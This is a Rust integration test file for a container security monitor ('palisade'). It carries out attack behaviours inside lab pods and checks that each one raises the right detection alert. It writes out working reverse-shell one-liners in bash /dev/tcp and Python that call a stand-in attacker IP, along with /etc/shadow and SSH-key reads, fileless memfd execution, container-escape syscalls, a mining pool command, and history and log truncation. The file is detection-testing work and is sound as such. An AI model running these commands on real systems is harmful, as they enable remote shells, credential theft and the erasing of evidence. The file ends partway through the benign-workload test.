//! Scenario tests (issue 3, "Must show"): each of the 14 behaviours of the default rule pack is
//! performed for real inside a lab pod while `palisade run` watches, and raises the right rule
//! alert for the right pod; a benign workload set (a web server, health checks, normal start-up)
//! raises none.
//!
//! Every variant of a behaviour runs in a pod of its own, so "the right pod" is exact and a
//! quarantine (when a rule's action is `quarantine`) never gets in the way of the next variant.
//! Assertions use kind, rule id, pod and event fields only, never the outcome.
//!
//! `cargo test --test scenario_behaviours -- --ignored record_mix` re-records
//! testdata/scenarios/recorded-mix.jsonl (benign and attack workloads, sanitized).
mod support;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::os::fd::AsRawFd as _;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::Value;
use support::daemon::{DaemonGuard, DaemonOptions, PALISADE, python3, run_with_timeout, spawn_logged, system_program};
use support::require_kernel;

const NS: &str = "scenario";
/// The attacker's pod: it only listens (reverse shell catcher); it must raise nothing.
const ATTACKER: &str = "attacker";
const ATTACKER_IP: &str = "198.18.0.2";
/// Benign pods.
const WEB: &str = "web";
const WEB_IP: &str = "198.18.0.10";
const CLIENT: &str = "client";
const CLIENT_IP: &str = "198.18.0.20";

/// What a variant did: ran (with a note for the report), or could not run here (why).
enum Ran {
    Ok(String),
    Skipped(String),
}

type Action = Box<dyn Fn(&Ctx, &str) -> Ran>;

/// One way of performing one behaviour, in its own pod.
struct Variant {
    behaviour: &'static str,
    pod: &'static str,
    rule: &'static str,
    how: &'static str,
    run: Action,
    /// Extra condition on the alert (beyond kind, rule id and pod).
    check: fn(&Value) -> bool,
}

/// What variants share.
struct Ctx<'a> {
    daemon: &'a DaemonGuard,
    python: Option<PathBuf>,
    /// A directory below /tmp (for exec_from_tmp), removed at the end.
    tmp: PathBuf,
    /// Paths below /etc the write variants create (removed at the end whatever happens).
    etc_files: Vec<PathBuf>,
    /// Log files below /var/log the truncation variants empty (removed at the end).
    log_files: Vec<PathBuf>,
}

impl Ctx<'_> {
    fn key(pod: &str) -> String {
        format!("{NS}/{pod}")
    }

    /// Runs `args` in `pod`; the note says how it went.
    fn run(&self, pod: &str, args: &[&str]) -> Ran {
        let out = self.daemon.exec_in(&Self::key(pod), args);
        Ran::Ok(summary(&out))
    }

    fn run_env(&self, pod: &str, env: &[(&str, &Path)], args: &[&str]) -> Ran {
        let mut command = self.daemon.command_in(&Self::key(pod), args[0]);
        command.args(&args[1..]);
        for (k, v) in env {
            command.env(k, v);
        }
        Ran::Ok(summary(&run_with_timeout(command, Duration::from_secs(30))))
    }

    fn python(&self, pod: &str, code: &str) -> Ran {
        self.python_args(pod, &["-c", code])
    }

    fn python_args(&self, pod: &str, args: &[&str]) -> Ran {
        match &self.python {
            Some(py) => {
                let py = py.to_string_lossy();
                let mut all = vec![py.as_ref()];
                all.extend_from_slice(args);
                self.run(pod, &all)
            }
            None => Ran::Skipped("no python3 on this machine".into()),
        }
    }

    /// A copy of a system program under a new name, in the scratch bin directory.
    fn renamed(&self, program: &str, name: &str) -> Option<PathBuf> {
        let src = system_program(program)?;
        let dir = self.daemon.scratch.join("bin");
        std::fs::create_dir_all(&dir).ok()?;
        let dst = dir.join(name);
        if !dst.exists() {
            std::fs::copy(&src, &dst).ok()?;
        }
        Some(dst)
    }

    /// A log file below /var/log with something in it (the `i`th of `log_files`).
    fn log_with_lines(&self, i: usize) -> String {
        let path = &self.log_files[i];
        std::fs::write(path, "GET / 200\nGET /admin 403\n").expect("log file");
        path.to_string_lossy().to_string()
    }

    /// A home directory for `pod` with a shell history in it.
    fn home_with_history(&self, pod: &str) -> PathBuf {
        let home = self.daemon.scratch.join(format!("home-{pod}"));
        std::fs::create_dir_all(&home).expect("home");
        std::fs::write(home.join(".bash_history"), "ls\ncat /etc/shadow\n").expect("history");
        home
    }

    /// Runs a shell in `pod` whose stdio is a TCP connection to a listener in the attacker pod
    /// (`port`), started with `args` (`{ip}`/`{port}` replaced). The session stays open until
    /// the daemon has judged it (the standard streams are read in the kernel at exec and dup,
    /// so a shell gone sooner would be judged the same; this checks the session too), then the
    /// attacker types a command; a quarantine cuts the session off, so the shell is killed
    /// afterwards.
    fn reverse_shell(&self, pod: &str, port: u16, args: &[&str], check: fn(&Value) -> bool) -> Ran {
        let listener = listen_in_pod(self.daemon, &Ctx::key(ATTACKER), &format!("{ATTACKER_IP}:{port}"));
        let args: Vec<String> =
            args.iter().map(|a| a.replace("{ip}", ATTACKER_IP).replace("{port}", &port.to_string())).collect();
        let mut command = self.daemon.command_in(&Ctx::key(pod), &args[0]);
        command.args(&args[1..]);
        let shell = spawn_logged(command, &self.daemon.work.join(format!("{pod}.log")));
        let Some(mut stream) = accept_within(&listener, Duration::from_secs(10)) else {
            return Ran::Ok(format!("no connection reached the listener; shell said {:?}", shell.output().trim()));
        };
        let judged = self
            .daemon
            .wait_for_alert(|a| is_alert_for(a, "reverse_shell", pod) && check(a), Duration::from_secs(15))
            .is_some();
        let answer = converse(&mut stream);
        drop(shell);
        Ran::Ok(format!("alert while the session was open: {judged}; after it the attacker's command got {answer}"))
    }
}

fn is_alert_for(a: &Value, rule: &str, pod: &str) -> bool {
    a["kind"] == "rule" && a["rule"]["id"] == rule && a["pod"]["namespace"] == NS && a["pod"]["name"] == pod
}

fn accept_within(listener: &TcpListener, timeout: Duration) -> Option<std::net::TcpStream> {
    listener.set_nonblocking(true).ok();
    let deadline = Instant::now() + timeout;
    loop {
        match listener.accept() {
            Ok((s, _)) => {
                s.set_nonblocking(false).ok();
                return Some(s);
            }
            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
            Err(_) => return None,
        }
    }
}

/// Sends a command down the shell's socket and reads the answer (2 s at most).
fn converse(stream: &mut std::net::TcpStream) -> String {
    stream.set_read_timeout(Some(Duration::from_secs(2))).ok();
    let _ = stream.write_all(b"echo palisade-$((6*7)); exit\n");
    let mut buf = Vec::new();
    let _ = stream.read_to_end(&mut buf);
    let text = String::from_utf8_lossy(&buf).to_string();
    if text.contains("palisade-42") { "an answer".into() } else { format!("no answer ({} bytes; cut off by a quarantine?)", buf.len()) }
}

fn summary(out: &std::process::Output) -> String {
    let err = String::from_utf8_lossy(&out.stderr);
    let err = err.trim();
    if err.is_empty() {
        format!("exit {}", out.status.code().map_or("signal".into(), |c| c.to_string()))
    } else {
        format!("exit {} ({})", out.status.code().map_or("signal".into(), |c| c.to_string()), err.lines().last().unwrap_or(""))
    }
}

/// A TCP listener inside a pod's network namespace (bound from a thread that entered it).
fn listen_in_pod(daemon: &DaemonGuard, pod: &str, addr: &str) -> TcpListener {
    let netns = daemon.lab().pod_netns_path(pod).expect("attacker netns");
    let addr = addr.to_string();
    std::thread::spawn(move || {
        let ns = std::fs::File::open(&netns).expect("open netns");
        // SAFETY: setns on this short-lived thread only; the socket keeps the namespace.
        let rc = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
        assert_eq!(rc, 0, "setns into {}: {}", netns.display(), std::io::Error::last_os_error());
        TcpListener::bind(&addr).unwrap_or_else(|e| panic!("listen on {addr} in the attacker pod: {e}"))
    })
    .join()
    .expect("listener thread")
}

fn any(_: &Value) -> bool {
    true
}

/// The alert is for the exec of the renamed shell itself (not the launcher's dup2).
fn renamed_shell_exec(a: &Value) -> bool {
    a["event"]["type"] == "exec" && a["event"]["exec"]["filename"].as_str().is_some_and(|f| f.ends_with("/kworker"))
}

/// Every behaviour, each in as many real forms as this machine allows.
fn variants() -> Vec<Variant> {
    fn v(behaviour: &'static str, pod: &'static str, rule: &'static str, how: &'static str, run: Action) -> Variant {
        Variant { behaviour, pod, rule, how, run, check: any }
    }
    let mut list = vec![
        // 1
        v("1 shell", "shell-bash-i", "shell_in_container", "bash -i", Box::new(|c, pod| c.run(pod, &["bash", "--norc", "--noprofile", "-i", "-c", "true"]))),
        v("1 shell", "shell-sh-i", "shell_in_container", "sh -i", Box::new(|c, pod| c.run(pod, &["sh", "-i", "-c", "true"]))),
        // 2
        v("2 credentials", "creds-cat", "credential_read", "cat /etc/shadow", Box::new(|c, pod| c.run(pod, &["cat", "/etc/shadow"]))),
        v("2 credentials", "creds-python", "credential_read", "python3 reads /etc/shadow", Box::new(|c, pod| c.python(pod, "open('/etc/shadow').read()"))),
        v("2 credentials", "creds-renamed", "credential_read", "cat renamed logview reads /etc/shadow (renamed binary)", Box::new(|c, pod| {
            match c.renamed("cat", "logview") {
                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "/etc/shadow"]),
                None => Ran::Skipped("no cat to copy".into()),
            }
        })),
        v("2 credentials", "creds-sshkey", "credential_read", "cat ~/.ssh/id_ed25519", Box::new(|c, pod| {
            let ssh = c.daemon.scratch.join("home-sshkey/.ssh");
            std::fs::create_dir_all(&ssh).expect("ssh dir");
            std::fs::write(ssh.join("id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n").expect("key");
            c.run(pod, &["cat", &ssh.join("id_ed25519").to_string_lossy()])
        })),
        // 3
        v("3 system dir write", "etc-sh", "write_below_system_dir", "sh writes and removes a file below /etc", Box::new(|c, pod| {
            let path = c.etc_files[0].to_string_lossy().to_string();
            c.run(pod, &["sh", "-c", &format!("echo palisade > {path} && rm -f {path}")])
        })),
        v("3 system dir write", "etc-python", "write_below_system_dir", "python3 writes a file below /etc", Box::new(|c, pod| {
            let path = c.etc_files[1].to_string_lossy().to_string();
            c.python(pod, &format!("import os; open({path:?}, 'w').write('x'); os.unlink({path:?})"))
        })),
        // 4
        v("4 package manager", "pkg-apt", "package_manager", "apt-get -s install (simulation)", Box::new(|c, pod| {
            if system_program("apt-get").is_none() {
                return Ran::Skipped("no apt-get".into());
            }
            c.run(pod, &["apt-get", "-s", "-o", "Debug::NoLocking=1", "install", "palisade-no-such-package"])
        })),
        v("4 package manager", "pkg-db", "package_manager", "python3 opens the dpkg database lock for writing (behaviour, no package manager name)", Box::new(|c, pod| {
            if !Path::new("/var/lib/dpkg/lock").exists() {
                return Ran::Skipped("no /var/lib/dpkg/lock".into());
            }
            c.python(pod, "import os; os.close(os.open('/var/lib/dpkg/lock', os.O_WRONLY))")
        })),
        Variant {
            behaviour: "4 package manager",
            pod: "pkg-pip-module",
            rule: "package_manager",
            how: "python3 -m pip install (offline, --dry-run)",
            run: Box::new(|c, pod| c.python_args(pod, &["-m", "pip", "install", "--no-index", "--dry-run", "palisade-no-such-package"])),
            check: |a| a["severity"] == "medium" && a["event"]["exec"]["argv"][1] == "-m",
        },
        Variant {
            behaviour: "4 package manager",
            pod: "pkg-ensurepip",
            rule: "package_manager",
            how: "python3 -m ensurepip --version",
            run: Box::new(|c, pod| c.python_args(pod, &["-m", "ensurepip", "--version"])),
            check: |a| a["severity"] == "medium" && a["event"]["exec"]["argv"][2] == "ensurepip",
        },
        Variant {
            behaviour: "4 package manager",
            pod: "pkg-query-dpkg",
            rule: "package_manager",
            how: "dpkg -l (a query: low severity)",
            run: Box::new(|c, pod| {
                if system_program("dpkg").is_none() {
                    return Ran::Skipped("no dpkg".into());
                }
                c.run(pod, &["dpkg", "-l"])
            }),
            check: |a| a["severity"] == "low",
        },
        Variant {
            behaviour: "4 package manager",
            pod: "pkg-query-dpkgq",
            rule: "package_manager",
            how: "dpkg-query -W (a query: low severity)",
            run: Box::new(|c, pod| {
                if system_program("dpkg-query").is_none() {
                    return Ran::Skipped("no dpkg-query".into());
                }
                c.run(pod, &["dpkg-query", "-W"])
            }),
            check: |a| a["severity"] == "low",
        },
        // 5
        v("5 recon", "recon-nmap", "network_recon", "a program named nmap with scan arguments (name-based rule)", Box::new(|c, pod| {
            match c.renamed("true", "nmap") {
                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "-sT", "-p", "1-1024", ATTACKER_IP]),
                None => Ran::Skipped("no true to copy".into()),
            }
        })),
        v("5 recon", "recon-renamed", "network_recon", "a renamed scanner shows by its arguments", Box::new(|c, pod| {
            match c.renamed("true", "healthcheck") {
                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "-sS", "-Pn", "-p-", "198.18.0.0/24"]),
                None => Ran::Skipped("no true to copy".into()),
            }
        })),
        // 6
        v("6 exec from tmp", "tmp-exec", "exec_from_tmp", "a program copied into /tmp and run", Box::new(|c, pod| {
            let payload = c.tmp.join("payload");
            std::fs::copy(system_program("true").expect("true"), &payload).expect("copy payload");
            c.run(pod, &[&payload.to_string_lossy()])
        })),
        // 7
        v("7 fileless", "memfd-workload", "fileless_exec", "memfd_create + execveat(AT_EMPTY_PATH)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "memfd-exec"]))),
        v("7 fileless", "memfd-python", "fileless_exec", "python3 memfd_create + execv /proc/self/fd/N", Box::new(|c, pod| {
            c.python(pod, "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); os.execv(f'/proc/self/fd/{fd}', ['x'])")
        })),
        // 8
        v("8 ptrace", "ptrace-workload", "ptrace_attach", "PTRACE_ATTACH to a child", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "ptrace"]))),
        v("8 ptrace", "ptrace-strace", "ptrace_attach", "strace", Box::new(|c, pod| {
            if system_program("strace").is_none() {
                return Ran::Skipped("no strace".into());
            }
            c.run(pod, &["strace", "-f", "-o", "/dev/null", "true"])
        })),
        // 9
        Variant {
            behaviour: "9 privilege escalation",
            pod: "setuid-python",
            rule: "setuid_root",
            how: "uid 65534 with saved uid 0 (a setuid-root program that dropped privileges) calls seteuid(0)",
            run: Box::new(|c, pod| c.python(pod, "import os; os.setresuid(65534, 65534, 0); os.seteuid(0); assert os.geteuid() == 0")),
            check: |a| a["event"]["cred"]["args"].as_array().is_some_and(|args| args.first() == Some(&Value::from(4294967295u64)) && args.get(1) == Some(&Value::from(0))),
        },
        Variant {
            behaviour: "9 privilege escalation",
            pod: "setuid-attempt",
            rule: "setuid_root",
            how: "uid 65534 calls setuid(0), which fails (an attempt)",
            run: Box::new(|c, pod| c.python(pod, "import os\nos.setresuid(65534, 65534, 65534)\ntry:\n    os.setuid(0)\nexcept PermissionError:\n    pass")),
            check: |a| a["event"]["cred"]["op"] == "setuid" && a["event"]["cred"]["result"].as_i64().is_some_and(|r| r < 0),
        },
        Variant {
            behaviour: "9 privilege escalation",
            pod: "setregid-attempt",
            rule: "setuid_root",
            how: "uid/gid 65534 calls setregid(0, 0), which fails (an attempt)",
            run: Box::new(|c, pod| {
                c.python(pod, "import os\nos.setgroups([])\nos.setresgid(65534, 65534, 65534)\nos.setresuid(65534, 65534, 65534)\ntry:\n    os.setregid(0, 0)\nexcept PermissionError:\n    pass")
            }),
            check: |a| a["event"]["cred"]["op"] == "setregid" && a["event"]["cred"]["result"].as_i64().is_some_and(|r| r < 0),
        },
        v("9 privilege escalation", "suid-chmod", "setuid_bit", "chmod u+s", Box::new(|c, pod| {
            let file = c.daemon.scratch.join("suid-file");
            std::fs::write(&file, "#!/bin/sh\n").expect("file");
            c.run(pod, &["chmod", "u+s", &file.to_string_lossy()])
        })),
        v("9 privilege escalation", "suid-workload", "setuid_bit", "chmod(04755) syscall", Box::new(|c, pod| {
            c.run(pod, &[PALISADE, "workload", "chmod-setuid", &c.daemon.scratch.join("suid-file-2").to_string_lossy()])
        })),
        // 10
        v("10 container escape", "escape-mount", "container_escape", "mount a tmpfs (private mount namespace)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "mount"]))),
        v("10 container escape", "escape-unshare", "container_escape", "unshare -U (util-linux)", Box::new(|c, pod| {
            if system_program("unshare").is_none() {
                return Ran::Skipped("no unshare".into());
            }
            c.run(pod, &["unshare", "-U", "true"])
        })),
        v("10 container escape", "escape-userns", "container_escape", "unshare(CLONE_NEWUSER)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "unshare-user"]))),
        v("10 container escape", "escape-module", "container_escape", "finit_module", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "finit-module"]))),
        v("10 container escape", "escape-bpf", "container_escape", "bpf(BPF_PROG_LOAD)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "bpf"]))),
        v("10 container escape", "escape-corepattern", "container_escape", "sh opens core_pattern for writing (writes nothing)", Box::new(|c, pod| {
            c.run(pod, &["sh", "-c", "exec 3>>/proc/sys/kernel/core_pattern"])
        })),
        // 11
        v("11 reverse shell", "revshell-bash", "reverse_shell", "bash -i on /dev/tcp to the attacker pod", Box::new(|c, pod| {
            c.reverse_shell(pod, 9001, &["bash", "-c", "exec 3<>/dev/tcp/{ip}/{port}; exec bash --norc --noprofile -i <&3 >&3 2>&3"], any)
        })),
        v("11 reverse shell", "revshell-python", "reverse_shell", "python3 socket + dup2 + sh", Box::new(|c, pod| {
            let Some(py) = c.python.clone() else { return Ran::Skipped("no python3".into()) };
            let code = "import socket, os; s = socket.create_connection(('{ip}', {port})); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh'])";
            c.reverse_shell(pod, 9002, &[&py.to_string_lossy(), "-c", code], any)
        })),
        Variant {
            behaviour: "11 reverse shell",
            pod: "revshell-renamed",
            rule: "reverse_shell",
            how: "bash renamed kworker with all streams on the socket (renamed binary)",
            run: Box::new(|c, pod| match c.renamed("bash", "kworker") {
                Some(bin) => {
                    let script = format!("exec 3<>/dev/tcp/{{ip}}/{{port}}; exec {} --norc --noprofile <&3 >&3 2>&3", bin.display());
                    c.reverse_shell(pod, 9003, &["bash", "-c", &script], renamed_shell_exec)
                }
                None => Ran::Skipped("no bash to copy".into()),
            }),
            check: renamed_shell_exec,
        },
        // 12
        v("12 crypto mining", "mining-stratum", "crypto_mining", "a renamed program with stratum+tcp:// arguments", Box::new(|c, pod| {
            match c.renamed("true", "kswapd0") {
                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "-o", &format!("stratum+tcp://{ATTACKER_IP}:3333"), "-u", "wallet", "-p", "x"]),
                None => Ran::Skipped("no true to copy".into()),
            }
        })),
        v("12 crypto mining", "mining-pool-port", "crypto_mining", "bash connects to a pool port (3333)", Box::new(|c, pod| {
            c.run(pod, &["bash", "-c", &format!("exec 3<>/dev/tcp/{ATTACKER_IP}/3333 || true")])
        })),
        // 13
        v("13 history tampering", "history-truncate", "shell_history_tampering", "sh truncates ~/.bash_history", Box::new(|c, pod| {
            let home = c.home_with_history(pod);
            c.run_env(pod, &[("HOME", &home)], &["sh", "-c", ": > \"$HOME/.bash_history\""])
        })),
        v("13 history tampering", "history-unlink", "shell_history_tampering", "rm ~/.bash_history", Box::new(|c, pod| {
            let home = c.home_with_history(pod);
            c.run_env(pod, &[("HOME", &home)], &["rm", "-f", &home.join(".bash_history").to_string_lossy()])
        })),
        v("13 history tampering", "history-rename", "shell_history_tampering", "mv ~/.bash_history away", Box::new(|c, pod| {
            let home = c.home_with_history(pod);
            let from = home.join(".bash_history");
            c.run_env(pod, &[("HOME", &home)], &["mv", &from.to_string_lossy(), &home.join("old").to_string_lossy()])
        })),
        Variant {
            behaviour: "13 history tampering",
            pod: "history-truncate-s0",
            rule: "shell_history_tampering",
            how: "truncate -s0 ~/.bash_history (open without O_TRUNC, then ftruncate)",
            run: Box::new(|c, pod| {
                let home = c.home_with_history(pod);
                c.run_env(pod, &[("HOME", &home)], &["sh", "-c", "truncate -s0 \"$HOME/.bash_history\""])
            }),
            check: |a| a["event"]["open"]["op"] == "ftruncate" && a["event"]["open"]["path_resolved"] == true,
        },
        Variant {
            behaviour: "13 history tampering",
            pod: "history-ftruncate-py",
            rule: "shell_history_tampering",
            how: "python3 os.ftruncate on ~/.bash_history opened read-write",
            run: Box::new(|c, pod| {
                let home = c.home_with_history(pod);
                let path = home.join(".bash_history").to_string_lossy().to_string();
                c.python(pod, &format!("import os; fd = os.open({path:?}, os.O_RDWR); os.ftruncate(fd, 0)"))
            }),
            check: |a| a["event"]["open"]["op"] == "ftruncate",
        },
        Variant {
            behaviour: "13 history tampering",
            pod: "history-truncate-rel",
            rule: "shell_history_tampering",
            how: "python3 truncate(2) of .bash_history relative to the home directory",
            run: Box::new(|c, pod| {
                let home = c.home_with_history(pod);
                c.python(pod, &format!("import os; os.chdir({:?}); os.truncate('.bash_history', 0)", home.to_string_lossy()))
            }),
            check: |a| a["event"]["open"]["op"] == "truncate" && a["event"]["open"]["path"].as_str().is_some_and(|p| p.ends_with("/home-history-truncate-rel/.bash_history")),
        },
        // 14
        v("14 log tampering", "log-redirect", "log_tampering", ": > /var/log/x.log (open with O_TRUNC)", Box::new(|c, pod| {
            let path = c.log_with_lines(0);
            c.run(pod, &["sh", "-c", &format!(": > {path}")])
        })),
        Variant {
            behaviour: "14 log tampering",
            pod: "log-truncate",
            rule: "log_tampering",
            how: "truncate -s0 /var/log/x.log (ftruncate)",
            run: Box::new(|c, pod| {
                let path = c.log_with_lines(1);
                c.run(pod, &["truncate", "-s0", &path])
            }),
            check: |a| a["event"]["open"]["op"] == "ftruncate",
        },
    ];
    list.sort_by_key(|v| v.behaviour.split(' ').next().and_then(|n| n.parse::<u32>().ok()).unwrap_or(0));
    list
}

/// An inventory of one namespace with the given pods (addresses 198.18.0.x).
fn inventory(pods: &[(&str, &str)]) -> String {
    let mut text = format!("namespaces:\n  - name: {NS}\n    labels: {{team: scenario}}\nendpoints:\n");
    for (name, ip) in pods {
        text.push_str(&format!(
            "  - namespace: {NS}\n    name: {name}\n    labels: {{app: {name}}}\n    ips: [{ip}]\n    ports: [{{name: http, port: 8080, protocol: TCP}}]\n"
        ));
    }
    text
}

fn attack_pods(variants: &[Variant]) -> Vec<(String, String)> {
    let mut pods = vec![(ATTACKER.to_string(), ATTACKER_IP.to_string())];
    for (i, v) in variants.iter().enumerate() {
        pods.push((v.pod.to_string(), format!("198.18.1.{}", 10 + i)));
    }
    pods
}

struct Outcome {
    behaviour: &'static str,
    pod: &'static str,
    rule: &'static str,
    how: &'static str,
    note: String,
    /// None: skipped; Some(alert found)
    found: Option<bool>,
}

/// Runs every variant, then waits for each one's alert. Returns one outcome per variant.
fn run_attacks(daemon: &DaemonGuard, variants: &[Variant]) -> Vec<Outcome> {
    let tmp = PathBuf::from(format!("/tmp/palisade-{}", daemon.lab_name));
    std::fs::create_dir_all(&tmp).expect("tmp dir");
    let etc_files = (1..=2).map(|i| PathBuf::from(format!("/etc/palisade-{}-{i}", daemon.lab_name))).collect();
    let log_files = (1..=2).map(|i| PathBuf::from(format!("/var/log/palisade-{}-{i}.log", daemon.lab_name))).collect();
    let ctx = Ctx { daemon, python: python3(), tmp, etc_files, log_files };
    let mut outcomes = Vec::new();
    for v in variants {
        let ran = (v.run)(&ctx, v.pod);
        let (note, found) = match ran {
            Ran::Ok(note) => (note, Some(false)),
            Ran::Skipped(why) => (format!("SKIPPED: {why}"), None),
        };
        outcomes.push(Outcome { behaviour: v.behaviour, pod: v.pod, rule: v.rule, how: v.how, note, found });
    }
    let _ = std::fs::remove_dir_all(&ctx.tmp);
    for path in ctx.etc_files.iter().chain(&ctx.log_files) {
        let _ = std::fs::remove_file(path);
    }
    let deadline = Instant::now() + Duration::from_secs(20);
    for (outcome, v) in outcomes.iter_mut().zip(variants) {
        if outcome.found.is_none() {
            continue;
        }
        let left = deadline.saturating_duration_since(Instant::now());
        let hit = daemon.wait_for_alert(
            |a| is_alert_for(a, v.rule, v.pod) && (v.check)(a),
            left,
        );
        outcome.found = Some(hit.is_some());
    }
    outcomes
}

fn report(outcomes: &[Outcome], alerts: &[Value]) -> String {
    let mut text = String::new();
    for o in outcomes {
        let status = match o.found {
            None => "skip",
            Some(true) => "ok",
            Some(false) => "MISSING",
        };
        text.push_str(&format!("{status:7} {:24} {:18} {:24} {} [{}]\n", o.behaviour, o.pod, o.rule, o.how, o.note));
        if o.found == Some(false) {
            let seen: Vec<String> = alerts
                .iter()
                .filter(|a| a["pod"]["name"] == o.pod)
                .map(|a| format!("{} ({})", a["rule"]["id"].as_str().unwrap_or("?"), a["message"].as_str().unwrap_or("")))
                .collect();
            text.push_str(&format!("        alerts for pod {}: {seen:?}\n", o.pod));
        }
    }
    text
}

#[test]
fn each_default_behaviour_raises_its_alert_for_the_right_pod() {
    if !require_kernel("each_default_behaviour_raises_its_alert_for_the_right_pod") {
        return;
    }
    let started = Instant::now();
    let variants = variants();
    let pods = attack_pods(&variants);
    let pod_refs: Vec<(&str, &str)> = pods.iter().map(|(n, i)| (n.as_str(), i.as_str())).collect();
    let daemon = DaemonGuard::start(DaemonOptions::new("scnbehaviours", &inventory(&pod_refs)));
    let outcomes = run_attacks(&daemon, &variants);
    // Late alerts (from events still in flight) count for the pod checks below.
    std::thread::sleep(Duration::from_millis(500));
    let alerts = daemon.rule_alerts();
    let table = report(&outcomes, &alerts);
    println!("{table}");

    let mut problems = Vec::new();
    for o in &outcomes {
        if o.found == Some(false) {
            problems.push(format!("{} ({}): no {} alert for pod {NS}/{}", o.behaviour, o.how, o.rule, o.pod));
        }
    }
    // Every behaviour is shown by at least one variant that ran.
    for behaviour in outcomes.iter().map(|o| o.behaviour).collect::<std::collections::BTreeSet<_>>() {
        if !outcomes.iter().any(|o| o.behaviour == behaviour && o.found == Some(true)) {
            problems.push(format!("behaviour {behaviour}: no variant ran and alerted"));
        }
    }
    // Alerts name the pod that did it: every rule alert is for one of this lab's pods, and the
    // attacker pod (which only listened) has none.
    for a in &alerts {
        let pod = &a["pod"];
        if pod["namespace"] != NS || !pods.iter().any(|(n, _)| pod["name"] == n.as_str()) {
            problems.push(format!("rule alert for an unexpected pod: {a}"));
        }
        if pod["name"] == ATTACKER {
            problems.push(format!("the attacker pod only listened but raised {}: {}", a["rule"]["id"], a["message"]));
        }
    }
    println!("{} variants, {} rule alerts, {:.1} s", outcomes.len(), alerts.len(), started.elapsed().as_secs_f64());
    assert!(problems.is_empty(), "{}\n\n{table}", problems.join("\n"));
}

/// The benign workload: an entrypoint script starting a web server, health checks from another
/// pod and from inside the pod, a client application, a reachability probe.
fn run_benign(daemon: &DaemonGuard) -> Vec<String> {
    let mut notes = Vec::new();
    let web = format!("{NS}/{WEB}");
    let client = format!("{NS}/{CLIENT}");
    let app = daemon.scratch.join("app");
    std::fs::create_dir_all(app.join("www")).expect("app dir");
    std::fs::create_dir_all(app.join("run")).expect("run dir");
    std::fs::write(app.join("www/index.html"), "<h1>palisade</h1>\n").expect("index");
    std::fs::write(app.join("www/healthz"), "ok\n").expect("healthz");
    let python = python3();
    let server = match &python {
        Some(py) => format!("exec {} -m http.server 8080 --bind 0.0.0.0 --directory \"$APP/www\"", py.display()),
        None => "exec sleep 30".to_string(),
    };
    // What an image's entrypoint does: read its config, write a pid file, exec the server.
    std::fs::write(
        app.join("entrypoint.sh"),
        format!(
            "#!/bin/sh\nset -e\nAPP=\"$(dirname \"$0\")\"\n. \"$APP/app.env\"\ncat /etc/os-release > /dev/null\nmkdir -p \"$APP/run\" \"$APP/log\"\necho $$ > \"$APP/run/server.pid\"\necho \"starting $NAME\" >> \"$APP/log/start.log\"\n{server}\n"
        ),
    )
    .expect("entrypoint");
    std::fs::write(app.join("app.env"), "NAME=web\nPORT=8080\n").expect("env");
    let mut command = daemon.command_in(&web, "sh");
    command.arg(app.join("entrypoint.sh"));
    let server = spawn_logged(command, &daemon.work.join("web-server.log"));

    // Wait for the server to answer (from the client pod, like a load balancer would).
    let url = format!("http://{WEB_IP}:8080/healthz");
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut up = python.is_none();
    while !up && Instant::now() < deadline {
        let out = daemon.exec_in(&client, &["curl", "-fsS", "-m", "2", &url]);
        up = out.status.success();
        if !up {
            std::thread::sleep(Duration::from_millis(200));
        }
    }
    notes.push(format!("web server up: {up}"));
    if python.is_some() {
        for _ in 0..3 {
            let out = daemon.exec_in(&client, &["curl", "-fsS", "-m", "2", &url]);
            notes.push(format!("curl healthz: {}", summary(&out)));
            let out = daemon.exec_in(&client, &["wget", "-q", "-T", "2", "-O", "/dev/null", &format!("http://{WEB_IP}:8080/")]);
            notes.push(format!("wget /: {}", summary(&out)));
            // A kubelet-style exec probe inside the web pod.
            let out = daemon.exec_in(&web, &["sh", "-c", &format!("wget -q -T 2 -O /dev/null http://{WEB_IP}:8080/healthz")]);
            notes.push(format!("exec probe: {}", summary(&out)));
        }
        let py = python.as_ref().expect("python").to_string_lossy().to_string();
        let out = daemon.exec_in(
            &client,
            &[&py, "-c", &format!("import urllib.request, json; print(len(urllib.request.urlopen('http://{WEB_IP}:8080/', timeout=2).read()))")],
        );
        notes.push(format!("python client: {}", summary(&out)));
    }
    // Ordinary commands a workload runs.
    for args in [&["id"][..], &["ls", "/etc"], &["date"], &["cat", "/etc/hostname"], &["uname", "-a"]] {
        let out = daemon.exec_in(&client, args);
        notes.push(format!("{}: {}", args.join(" "), summary(&out)));
    }
    // Real packets between every pod on a port nobody listens on yet (the probe's own listeners).
    let matrix = daemon.lab().probe(9090, palisade::inventory::Protocol::Tcp).expect("lab probe");
    notes.push(format!("lab probe 9090: all allowed = {}", matrix.all_allowed()));
    let transcript = server.finish(Duration::from_millis(10));
    notes.push(format!("server log: {:?}", transcript.lines().take(3).collect::<Vec<_>>()));
    notes
}

#[test]
fn benign_workload_raises_no_rule_alerts() {
    if !require_kernel("benign_workload_raises_no_rule_alerts") {
        return;
    }
    let started = Instant::now();
    let inv = inventory(&[(WEB, WEB_IP), (CLIENT, CLIENT_IP)]);
    let daemon = DaemonGuard::start(DaemonOptions::new("scnbenign", &inv).record());
    let notes = run_benign(&daemon);
    println!("{}", notes.join("\n"));
    // Let in-flight events reach the rules.
    std::thread::sleep(Duration::from_secs(2));
    let alerts = daemon.rule_alerts();
    let record = std::fs::read_to_string(daemon.record_path.as_ref().expect("record")).unwrap_or_default();
